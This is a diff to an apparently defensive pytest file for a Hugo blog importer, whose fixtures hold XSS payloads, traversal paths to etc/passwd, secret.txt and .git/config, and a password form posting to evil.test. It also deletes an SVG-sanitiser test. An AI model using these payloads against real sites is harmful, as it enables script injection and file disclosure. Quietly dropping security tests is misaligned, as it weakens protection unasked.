@@ -11,7 +11,6 @@ from lxml import html
 
 from blog_code.hugo.clean import what_acts
 from blog_code.hugo.importing import Report
-from blog_code.hugo.pictures import harmless_picture
 from blog_code.hugo.problems import Usage
 
 SECRET = "what-nobody-may-read"
@@ -21,7 +20,7 @@ DRAWING = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/>{}</svg>'
 UP = "../" * 12
 BLOG: dict[str, str | bytes] = {
     "content/posts/jinja.md": post(f"```\n{{{{ a }}}}\n{{%+ endraw %}}{CODE}{{% raw %}}\n```\n\n<!-- {CODE} -->\n\n\ue000{CODE}\ue001 ![x]({CODE})\n"),
-    "content/posts/value.md": post("{<b></b>{= a.b }} and {\\{= a.b }} and `{{= a.b }}`\n\n| {{= a.b }} |\n|---|\n| {{= a.b }} |\n\n[{{= a.b }}]({{= a.b }} \"{{= a.b }}\")\n"),
+    "content/posts/value.md": post("\ufdd0% x %\ufdd0 {<b></b>{= a.b }} and {\\{= a.b }} and `{{= a.b }}`\n\n| {{= a.b }} |\n|---|\n| {{= a.b }} |\n\n[{{= a.b }}]({{= a.b }} \"{{= a.b }}\")\n"),
     "content/posts/title.md": json.dumps({"title": f"T {CODE} {SCRIPT}", "date": "2024-01-01", "tags": [f"t {SCRIPT}"], "description": SCRIPT, "author": SCRIPT, "x": CODE}) + "\nx\n",
     "content/posts/outside.md": post(f"[k]({UP}etc/passwd) ![k]({UP}etc/passwd) [d](%2e%2e/%2e%2e/%2e%2e/secret.txt) [s](../../../secret.txt)\n\n{{{{< figure src=\"{UP}etc/passwd\" >}}}}\n\n<a href=\"/../secret.txt\">s</a> [g](/.git/config)\n", f"cover: {{image: {UP}etc/passwd}}\n"),
     "content/posts/raw.md": post(f"{SCRIPT}\n\n<meta http-equiv=refresh content=0;url=//evil.test>\n\n<form action=//evil.test><input type=password></form>\n\n<link rel=preconnect href=//evil.test>\n\n<base href=//evil.test>\n\n<iframe srcdoc='{SCRIPT}'></iframe>\n\n<p style='background:url(//evil.test)' onclick=alert(1)>p</p>\n\n<object data=//evil.test></object>\n\n<svg onload=alert(1)><script>alert(1)</script></svg>\n\n<math><mtext><img src onerror=alert(1)></math>\n"),
@@ -114,8 +113,7 @@ def test_no_program_is_formed(imported: tuple[Path, Report]) -> None:
     for path in (imported[0] / "docs").glob("p*/*.md"):
         text = path.read_text("utf-8")
         assert "{{=" not in text, path
-        assert path.parent.name == "posts" or not re.search(r"\{[{%#]", text), path
-        assert not re.search(r"\{[{%#]", text.split("\n---\n")[0]), path
+        assert not re.search("[\ufdd0-\ufdef]", text), path
         yaml.safe_load(text.split("---\n")[1])
 
 
@@ -209,10 +207,3 @@ def test_what_acts_is_found_in_rendered_html(text: str) -> None:
     """The last look at a page knows what is allowed, and nothing else passes, however it is spelt."""
     found = what_acts(text)
     assert found.startswith(ACTS[text]) and bool(found) == bool(ACTS[text])
-
-
-@pytest.mark.parametrize(("inside", "good"), [("", True), ("<g/>", True), (SCRIPT, False), ('<a href="javascript:x"/>', False), ('<g onload="x"/>', False), ("<foreignObject/>", False), ("<g", False)])
-def test_drawings_only_draw(inside: str, good: bool, tmp_path: Path) -> None:
-    """A drawing with anything in it that acts, or that is none, is left out."""
-    (tmp_path / "a.svg").write_text(DRAWING.format(inside))
-    assert harmless_picture(tmp_path / "a.svg") is good
